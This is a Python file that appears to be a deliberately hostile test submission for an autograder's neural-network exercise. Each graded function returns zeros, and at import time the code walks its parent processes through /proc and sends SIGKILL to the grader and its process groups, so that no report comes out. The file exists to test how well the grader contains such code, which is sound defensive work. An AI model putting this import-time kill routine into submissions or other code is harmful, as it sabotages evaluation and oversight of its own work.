"""BPGRADE-HOSTILE submission for exercise02 (attack: kill_parent).

Every function returns zeros. While it is imported, the file walks up its ancestors through
/proc/<pid>/status (PPid) and sends SIGKILL to each of them, nearest first, then to the process
group of its parent: the grader (or the fork server) dies, and with it the report.

So that it cannot take a developer's session with it when the grader fails to contain it, it
only kills the grader's own processes: it walks up only through Python processes (whose
command name starts with "python", or that are pytest or bpgrade), stops at the first other
one (the shell, the terminal, sshd, init), and kills a process group only when its leader is one
of those Python ancestors (a shell leads its own group, so none is in it). It never sends a
signal to -1 nor to a process it did not identify this way.

The grader must survive it (learner code runs as another user, so kill() fails with EPERM)
and grade the file: its honest part, zeros, passes only arguments_unchanged (advice, no
points): 0 of 10. Needs
root to be contained: as the developer's own user, kill() on the grader succeeds.
"""

import contextlib
import os
import signal

import numpy as np

GRADER_NAMES = ("python", "pytest", "bpgrade", "py.test")


def _status(pid: int) -> dict[str, str]:
    fields = {}
    try:
        with open(f"/proc/{pid}/status") as file:
            for line in file:
                key, _, value = line.partition(":")
                fields[key] = value.strip()
    except OSError:
        pass
    return fields


def _is_grader(pid: int) -> bool:
    name = _status(pid).get("Name", "")
    return name.startswith(GRADER_NAMES)


def _grader_ancestors() -> list[int]:
    chain = []
    pid = os.getppid()
    while pid > 1 and len(chain) < 16:
        if not _is_grader(pid):
            break
        chain.append(pid)
        try:
            pid = int(_status(pid).get("PPid", "0"))
        except ValueError:
            break
    return chain


def _attack() -> list[str]:
    done = []
    chain = _grader_ancestors()
    groups = []
    for pid in chain:
        try:
            group = os.getpgid(pid)
        except OSError:
            continue
        if group in chain and group != os.getpgrp() and group not in groups:
            groups.append(group)
    for pid in chain:
        try:
            os.kill(pid, signal.SIGKILL)
            done.append(f"killed {pid}")
        except OSError as error:
            done.append(f"kill {pid}: {error.strerror}")
    for group in groups:
        try:
            os.killpg(group, signal.SIGKILL)
            done.append(f"killed group {group}")
        except OSError as error:
            done.append(f"killpg {group}: {error.strerror}")
    return done


with contextlib.suppress(Exception):
    print("kill_parent:", _attack())


def _zeros(Z: np.ndarray) -> np.ndarray:
    return np.zeros(np.shape(Z))


def sigmoid(Z: np.ndarray) -> np.ndarray:
    return _zeros(Z)


def sigmoid_backward(dA: np.ndarray, Z: np.ndarray) -> np.ndarray:
    return _zeros(Z)


def relu(Z: np.ndarray) -> np.ndarray:
    return _zeros(Z)


def relu_backward(dA: np.ndarray, Z: np.ndarray) -> np.ndarray:
    return _zeros(Z)


def tanh_backward(dA: np.ndarray, Z: np.ndarray) -> np.ndarray:
    return _zeros(Z)
